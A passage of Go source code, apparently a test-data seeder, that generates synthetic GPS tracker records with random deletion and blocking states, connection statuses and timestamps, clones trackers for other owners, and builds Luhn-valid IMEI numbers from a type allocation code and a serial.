		t.AvatarFileName = "avatar_" + strconv.Itoa(id) + ".png"
	}

	fate := r.IntN(100)
	switch {
	case fate < 1 && id > 12:
		t.Deleted, src.Corrupted = true, true
	case fate < 4:
		t.Deleted = true
	case fate < 9:
		src.Blocked = true
	}
	ts.connection(t, created)
	if !src.Blocked && !src.Corrupted {
		if src.TariffID != planActiveDay { // every other seeded plan is monthly
			src.TariffEndDate = &Date{ts.nextMonth}
		}
	} else {
		src.TariffEndDate = &Date{ts.nextMonth.AddDate(0, -2-r.IntN(6), 0)}
	}
	st.appendTrackerLocked(t)
	if !t.Deleted {
		ts.originals = append(ts.originals, t)
	}
	return t
}

// connection sets the device's connection status and last connection.
func (ts *trackerSeeder) connection(t *Tracker, created time.Time) {
	r, src, anchor := ts.r, t.Source, ts.st.anchor
	ago := func(lo, hi time.Duration) *DateTime {
		at := anchor.Add(-(lo + time.Duration(r.Int64N(int64(hi-lo)))))
		if at.Before(created) {
			at = created
		}
		return &DateTime{at.Truncate(time.Second)}
	}
	k := r.IntN(100)
	switch {
	case anchor.Sub(created) < 48*time.Hour:
		src.ConnectionStatus = "just_registered"
	case t.Deleted || src.Blocked || src.Corrupted:
		src.ConnectionStatus, t.LastConnection = "offline", ago(30*24*time.Hour, 200*24*time.Hour)
	case k < 45:
		src.ConnectionStatus, t.LastConnection = "active", ago(0, 5*time.Minute)
	case k < 65:
		src.ConnectionStatus, t.LastConnection = "idle", ago(5*time.Minute, 3*time.Hour)
	case k < 85:
		src.ConnectionStatus, t.LastConnection = "offline", ago(24*time.Hour, 60*24*time.Hour)
	case k < 97:
		src.ConnectionStatus, t.LastConnection = "signal_lost", ago(3*time.Hour, 72*time.Hour)
	default:
		src.ConnectionStatus, t.LastConnection = "just_replaced", ago(24*time.Hour, 10*24*time.Hour)
	}
}

// clone seeds a clone of orig for owner: its own id, label and dates over
// the original's source.
func (ts *trackerSeeder) clone(id int, orig *Tracker, owner int) {
	created := ts.created(id)
	t := &Tracker{
		ID: id, UserID: owner, DealerID: dealerID, Clone: true, Label: orig.Label,
		ModelName: orig.ModelName, Source: orig.Source, CreationDate: Date{created.Truncate(24 * time.Hour)},
		LastConnection: orig.LastConnection, Deleted: ts.r.IntN(50) == 0,
	}
	if t.LastConnection != nil {
		lc := *t.LastConnection
		t.LastConnection = &lc
	}
	ts.st.appendTrackerLocked(t)
}

// imei builds a 15-digit IMEI with a valid Luhn check digit from a model's
// type allocation code and a serial.
func imei(tac string, serial int) string {
	var buf [15]byte
	b := appendPadded(append(buf[:0], tac...), uint64(serial%1000000), 6)
	sum := 0
	for i := 0; i < 14; i++ {
		d := int(b[i] - '0')
		if i%2 == 1 {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
	}
	return string(append(b, byte('0'+(10-sum%10)%10)))
}
